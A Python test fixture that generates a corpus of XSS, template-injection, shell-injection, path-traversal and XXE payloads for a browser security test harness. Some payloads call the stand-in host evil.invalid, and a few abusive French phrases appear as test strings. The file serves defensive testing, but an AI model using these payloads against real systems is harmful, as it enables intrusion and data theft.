"""A deterministic corpus of hostile strings for the XSS harness (issue 6, tests/browser/test_xss.py).

Every payload is a template where ``{M}`` stands for a marker unique to the payload and to the
field it is put in (``XSS0042T``: payload 42 in a chat message). The marker is also put before
and after the payload, so that it survives truncation and a file name cut at its last ``/``.
A marker found in a tag or attribute name, or in an attribute value where the app never puts
user text, names the payload and the field that got through.

Families (each built from a small table, expanded by the contexts an attacker closes first):

- ``naughty``: strings in the spirit of the Big List of Naughty Strings (numbers, quotes,
  Unicode, emoji, right-to-left text, SQL and shell injection, format strings);
- ``tag``: an element with a script-bearing attribute, after each context breakout;
- ``evasion``: filter-evasion spellings (case, broken tags, entities, encodings, comments);
- ``polyglot``: published multi-context polyglots;
- ``template``: server- and client-side template injection (Jinja, Angular, htmx, Vue…);
- ``url``: ``javascript:`` / ``data:`` / ``vbscript:`` addresses and their disguises;
- ``svg``: SVG and MathML vectors;
- ``bidi``: bidirectional overrides, zero-width characters, combining marks, homoglyphs.

No payload contains NUL (forms and the chat parser legitimately drop it).
"""

from __future__ import annotations

from dataclasses import dataclass

EVIL = "http://evil.invalid"  # any request to it (or any other origin) is a failure


@dataclass(frozen=True)
class Payload:
    index: int
    family: str
    template: str

    def marker(self, field: str) -> str:
        return f"XSS{self.index:04d}{field}"

    def text(self, field: str) -> str:
        mark = self.marker(field)
        return f"{mark} {self.template.replace('{M}', mark)} {mark}"


NAUGHTY = [
    "undefined", "null", "NULL", "nil", "NaN", "Infinity", "-Infinity", "0", "-1", "1E+02",
    "0x0", "0xffffffff", "1/0", "-0.0", "1;DROP TABLE items", "1'; DROP TABLE items--",
    "' OR '1'='1", "\" OR \"1\"=\"1", "admin'--", "%00", "%0d%0a", "\\r\\n", "%s%s%s%n", "%x%x%x",
    "{0}", "{}", "${HOME}", "$(touch /tmp/recours.fail)", "`touch /tmp/recours.fail`",
    "() { :; }; touch /tmp/recours.fail", "../../../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
    "/dev/null; echo", "C:\\CON\\CON", "CON", "PRN.txt", ",./;'[]\\-=", "<>?:\"{}|_+", "!@#$%^&*()`~",
    "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "œ∑´®†¥¨ˆøπ“‘", "¡™£¢∞§¶•ªº–≠", "田中さんにあげて下さい",
    "사회과학원 어학연구소", "𠜎𠜱𠝹𠱓𠱸𠲖𠳏", "ヽ༼ຈل͜ຈ༽ﾉ", "(｡◕ ∀ ◕｡)", "😍 🙈 🙉 🙊 ❤️ 💔",
    "👨‍👩‍👧‍👦 🏳️‍🌈 🇫🇷", "🐵🙈 🙉", "١٢٣", "בְּרֵאשִׁית, בָּרָא אֱלֹהִים", "مرحبا بالعالم",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎ ̢̼̻̱̘h͚͎͙̜̣̲ͅi̦̲̣̰̤v̻͍e̺̭̳̪̰-m̢iͅn̖̺̞̲̯̰d̵̼̟͙̩̼̘̳",
    "ｔｈｅ ｑｕｉｃｋ ｂｒｏｗｎ", "𝐓𝐡𝐞 𝐪𝐮𝐢𝐜𝐤", "⒯⒣⒠ ⒬⒰⒤⒞⒦", "ᵀʰᵉ ᑫᵘⁱᶜᵏ", "Ⱥ", "ȾȾ",
    "\u00ad\u0600\u061c\u06dd\u070f", "\u180e", "\ufeff", "\u2060\u2061\u2062", "\u3000",
    "\t\u000b\u000c\u0085\u00a0", "Roses are \u001b[0;31mred\u001b[0m", "\u0007\u0008\u007f",
    "Léa t'es qu'une sale pute", "je vais te tuer", "@everyone", "#hashtag", "mailto:a@b.c",
    "a" * 300, "<" * 50, "&" * 50, "\"'" * 40, "\\" * 40,
    "&lt;script&gt;alert('{M}')&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&#60;b&#62;", "<!-- {M} -->",
    "<![CDATA[<script>alert('{M}')</script>]]>", "<?xml version=\"1.0\"?><x>{M}</x>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
]

# Contexts an attacker closes before the element: text, attribute values, raw-text elements.
BREAKOUTS = [
    "", "\">", "'>", "\"/>", "</textarea>", "</title>", "</pre>", "</blockquote>", "</option></select>",
    "-->", "</script>", "</style>", "]]>", "</noscript>", "</mark>", "</td></tr></table>",
]
ELEMENTS = [
    "<script>alert('{M}')</script>",
    "<script src=" + EVIL + "/{M}.js></script>",
    "<img src=x onerror=alert('{M}')>",
    "<img src=" + EVIL + "/{M}.png>",
    "<svg onload=alert('{M}')>",
    "<body onload=alert('{M}')>",
    "<iframe src=\"javascript:alert('{M}')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('{M}')</script>\"></iframe>",
    "<object data=" + EVIL + "/{M}></object>",
    "<embed src=" + EVIL + "/{M}>",
    "<input autofocus onfocus=alert('{M}')>",
    "<details open ontoggle=alert('{M}')>",
    "<video><source onerror=alert('{M}')></video>",
    "<audio src=x onerror=alert('{M}')>",
    "<marquee onstart=alert('{M}')>{M}</marquee>",
    "<a href=\"javascript:alert('{M}')\">{M}</a>",
    "<form action=" + EVIL + "/{M}><button>{M}</button></form>",
    "<base href=" + EVIL + "/{M}/>",
    "<link rel=stylesheet href=" + EVIL + "/{M}.css>",
    "<meta http-equiv=refresh content=\"0;url=" + EVIL + "/{M}\">",
    "<style>@import '" + EVIL + "/{M}.css';</style>",
    "<div style=\"background:url(" + EVIL + "/{M})\">{M}</div>",
    "<b id={M} onmouseover=alert('{M}')>{M}</b>",
    "<{M} onclick=alert(1)>x</{M}>",
]

EVASIONS = [
    "<ScRiPt>alert('{M}')</sCrIpT>",
    "<scr<script>ipt>alert('{M}')</scr</script>ipt>",
    "<script >alert('{M}')</script >",
    "<script\t>alert('{M}')</script>",
    "<script/x>alert('{M}')</script>",
    "<<script>alert('{M}');//<</script>",
    "<IMG SRC=JaVaScRiPt:alert('{M}')>",
    "<IMG SRC=`javascript:alert('{M}')`>",
    "<IMG \"\"\"><SCRIPT>alert('{M}')</SCRIPT>\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('{M}');\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('{M}')>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert('{M}')>",
    "<img src=x onerror=\"&#97;lert('{M}')\">",
    "<img/src=x/onerror=alert('{M}')>",
    "<img src=x onerror=alert`{M}`>",
    "<img src=x:alert(alt) onerror=eval(src) alt='{M}'>",
    "%3Cscript%3Ealert('{M}')%3C/script%3E",
    "%253Cscript%253Ealert('{M}')%253C/script%253E",
    "\\u003cscript\\u003ealert('{M}')\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert('{M}')\\x3c/script\\x3e",
    "&lt;img src=x onerror=alert('{M}')&gt;",
    "＜script＞alert('{M}')＜/script＞",
    "\u00bcscript\u00bealert('{M}')\u00bc/script\u00be",
    "<!--<img src=\"--><img src=x onerror=alert('{M}')//\">",
    "<comment><img src=\"</comment><img src=x onerror=alert('{M}')//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{M}')>\">",
    "<svg><style><img src=x onerror=alert('{M}')></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{M}')>",
    "<a href=\"&#1;javascript:alert('{M}')\">{M}</a>",
    "<a href=\" javascript:alert('{M}')\">{M}</a>",
    "\" onmouseover=\"alert('{M}')",
    "' onmouseover='alert(\"{M}\")",
    "\" autofocus onfocus=\"alert('{M}')",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert('{M}')//'>",
    "</script><script>alert('{M}')</script>",
    "';alert('{M}');//",
    "\";alert('{M}');//",
    "\\\";alert('{M}');//",
    "<x contenteditable onblur=alert('{M}')>lose focus</x>",
    "<isindex type=image src=1 onerror=alert('{M}')>",
    "<frameset onload=alert('{M}')>",
    "<table background=\"javascript:alert('{M}')\">",
    "<div style=\"width:expression(alert('{M}'))\">",
    "<xss id=x tabindex=1 onfocus=alert('{M}')></xss>",
    "<img src=x onerror=import('" + EVIL + "/{M}.js')>",
    "<img src=x onerror=fetch('" + EVIL + "/{M}')>",
    "<img src=x onerror=navigator.sendBeacon('" + EVIL + "/{M}')>",
    "<img srcset=\"" + EVIL + "/{M}.png 1x\">",
    "<picture><source srcset=" + EVIL + "/{M}.png><img></picture>",
    "<input type=image src=" + EVIL + "/{M}.png>",
]

POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert('{M}') )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert('{M}')//>\\x3e",
    "'\"-->]]>*/</script></style></title></textarea></noscript></template></select></option><svg/onload=alert('{M}')>",
    "\"'><img src=x onerror=alert('{M}')>{{7*7}}${7*7}<%= 7*7 %>",
    "';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//\";alert('{M}')//\";--></SCRIPT>\">'><SCRIPT>alert('{M}')</SCRIPT>",
    "\">><marquee><img src=x onerror=confirm('{M}')></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=prompt('{M}')><script>prompt('{M}')</script>@gmail.com<isindex formaction=javascript:alert('{M}') type=submit>'-->\"></script><script>alert('{M}')</script>\"><img/id=\"confirm&lpar;1)\"/alt=\"/\"src=\"/\"onerror=eval(id)>'\">",
    "--><!-- ---> <img src=xxx:x onerror=javascript:alert('{M}')> -->",
    "<svg/onload=location=`javas`+`cript:alert%28'{M}'%29`;//",
    "`\"'><img src=xxx:x \\x0Aonerror=javascript:alert('{M}')>",
    "'\"()&%<acx><ScRiPt >alert('{M}')</ScRiPt>",
    "<plaintext>{M}<script>alert('{M}')</script>",
    "<xmp><script>alert('{M}')</script></xmp>",
    "<template><script>alert('{M}')</script></template>",
]

TEMPLATES = [
    "{{7*7}}", "{{ 7*'7' }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{7*7}}}", "[[7*7]]", "@(7*7)",
    "{{config}}", "{{ config.items() }}", "{{ request.application.__globals__ }}",
    "{{ self.__init__.__globals__.__builtins__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(3) %}{M}{% endfor %}", "{% raw %}<script>alert('{M}')</script>{% endraw %}",
    "{{ '<script>alert(1)</script>'|safe }}", "{{ lipsum.__globals__.os.popen('id').read() }}",
    "{{constructor.constructor('alert(\"{M}\")')()}}", "{{$on.constructor('alert(\"{M}\")')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert('{M}')></div>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\">{M}</div>",
    "<div hx-get=\"/coffre/effacer?{M}\" hx-trigger=\"load\">{M}</div>",
    "<div data-hx-post=\"/coffre/effacer\" data-hx-trigger=\"load\" data-x=\"{M}\"></div>",
    "<img src=x hx-on:htmx:load=\"alert('{M}')\">",
    "<button hx-on::before-request=\"alert('{M}')\" hx-get=/>{M}</button>",
    "<div hx-get=\"" + EVIL + "/{M}\" hx-trigger=load></div>",
    "<script type=module>import '" + EVIL + "/{M}.js'</script>",
    "%(name)s %(__class__)s", "{name!r:>{width}}", "{0.__class__}", "$$ {{ }} $$", "}}{{", "{%",
    "#set($x=7*7)${x}", "*{7*7}", "@{7*7}", "{{=7*7}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
]

URLS = [
    "javascript:alert('{M}')", "JaVaScRiPt:alert('{M}')", " javascript:alert('{M}')", "\tjavascript:alert('{M}')",
    "javascript&colon;alert('{M}')", "jav&#x09;ascript:alert('{M}')", "java\nscript:alert('{M}')",
    "javascript://%0Aalert('{M}')", "javascript://" + EVIL + "/%0Aalert('{M}')",
    "data:text/html,<script>alert('{M}')</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{M}",
    "data:image/svg+xml,<svg onload=alert('{M}')>", "data:,{M}", "vbscript:msgbox('{M}')",
    "livescript:alert('{M}')", "file:///etc/passwd#{M}", "//evil.invalid/{M}", "\\\\evil.invalid\\{M}",
    EVIL + "/{M}", "https://evil.invalid/{M}?<script>alert(1)</script>",
    "https://example.org/{M}\"><script>alert(1)</script>", "https://example.org/{M}'onmouseover='alert(1)",
    "https://example.org/{M}#<img src=x onerror=alert(1)>", "https://user:pass@evil.invalid/{M}",
    "https://evil.invalid%2F@example.org/{M}", "https://exаmple.org/{M}", "https://xn--exmple-cua.org/{M}",
    "https://127.0.0.1:1/{M}", "http://[::1]/{M}", "https://example.org/{M}%0d%0aSet-Cookie:x=1",
    "https://example.org/{M}?q=%3Cscript%3Ealert(1)%3C/script%3E", "blob:" + EVIL + "/{M}",
    "intent://{M}#Intent;scheme=javascript;end", "mailto:x@evil.invalid?body={M}", "tel:+33{M}",
]

SVG = [
    "<svg><script>alert('{M}')</script></svg>",
    "<svg><script href=" + EVIL + "/{M}.js /></svg>",
    "<svg><a xlink:href=\"javascript:alert('{M}')\"><text x=20 y=20>{M}</text></a></svg>",
    "<svg><animate onbegin=alert('{M}') attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert('{M}') /></svg>",
    "<svg><image href=" + EVIL + "/{M}.png /></svg>",
    "<svg><foreignObject><iframe src=" + EVIL + "/{M}></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert('{M}') /></svg>#x\"/></svg>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('{M}')\"/>",
    "<svg><style>@import url(" + EVIL + "/{M}.css)</style></svg>",
    "<svg><feImage href=" + EVIL + "/{M}.png /></svg>",
    "<svg><discard onbegin=alert('{M}')>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert('{M}')>{M}</maction></math>",
    "<math href=\"javascript:alert('{M}')\">{M}</math>",
    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert('{M}')</script></svg>",
]

BIDI = [
    "\u202egnp.exe", "facture\u202efdp.exe", "\u202a{M}\u202c", "\u202b{M}\u202c", "\u202d<script>\u202c",
    "\u2066<b>\u2069", "\u2067alert('{M}')\u2069", "\u2068{M}\u2069", "\u200f\u200e", "\u061c{M}",
    "<scr\u200bipt>alert('{M}')</scr\u200bipt>", "<img\u200bsrc=x\u200bonerror=alert('{M}')>",
    "java\u200bscript:alert('{M}')", "java\u00adscript:alert('{M}')", "\u200c\u200d\u2060\ufeff",
    "<\u0338script>", "<\u20d2img>", "\u0430lert('{M}')", "pаypal.com", "Ηugo", "Hugо", "Ηυgο",
    "\u115f\u1160\u3164", "\u2800\u2800", "\u034f\u034f", "a\u0301\u0301\u0301\u0301\u0301\u0301",
    "\U000e0041\U000e0042", "\U0001d5d4\U0001d5f5\U0001d5f2", "\ufff9x\ufffay\ufffb", "\ufffc\ufffd",
    "\u2028<script>alert('{M}')</script>\u2029", "line\u2028break\u2029para", "\r<script>alert('{M}')</script>",
]


def _corpus() -> list[Payload]:
    items: list[tuple[str, str]] = [("naughty", s) for s in NAUGHTY]
    items += [("tag", breakout + element) for element in ELEMENTS for breakout in BREAKOUTS]
    items += [("evasion", s) for s in EVASIONS]
    items += [("evasion", breakout + s) for s in EVASIONS for breakout in BREAKOUTS[1:6]]
    items += [("polyglot", s) for s in POLYGLOTS]
    items += [("template", s) for s in TEMPLATES]
    items += [("template", breakout + s) for s in TEMPLATES[19:27] for breakout in BREAKOUTS[1:4]]
    items += [("url", s) for s in URLS]
    items += [("url", f"<a href=\"{s}\">{{M}}</a>") for s in URLS]
    items += [("url", f"<iframe src=\"{s}\"></iframe>") for s in URLS[:10]]
    items += [("svg", s) for s in SVG]
    items += [("svg", breakout + s) for s in SVG for breakout in BREAKOUTS[1:4]]
    items += [("bidi", s) for s in BIDI]
    items += [("bidi", b + e) for b in ("\u202e", "\u200b", "\u2066") for e in ELEMENTS[:10]]
    seen: set[str] = set()
    corpus = []
    for family, template in items:
        if template in seen:
            continue
        seen.add(template)
        corpus.append(Payload(len(corpus), family, template))
    return corpus


CORPUS = _corpus()
FAMILIES = sorted({p.family for p in CORPUS})


def sample(size: int = 150) -> list[Payload]:
    """``size`` payloads spread evenly over the corpus, every family represented (deterministic)."""
    by_family = {f: [p for p in CORPUS if p.family == f] for f in FAMILIES}
    chosen: dict[int, Payload] = {}
    share = size // len(FAMILIES)
    for members in by_family.values():
        step = max(1, len(members) // share)
        for p in members[::step][:share]:
            chosen[p.index] = p
    step = max(1, len(CORPUS) // size)
    for p in CORPUS[::step]:
        if len(chosen) >= size:
            break
        chosen.setdefault(p.index, p)
    return sorted(chosen.values(), key=lambda p: p.index)
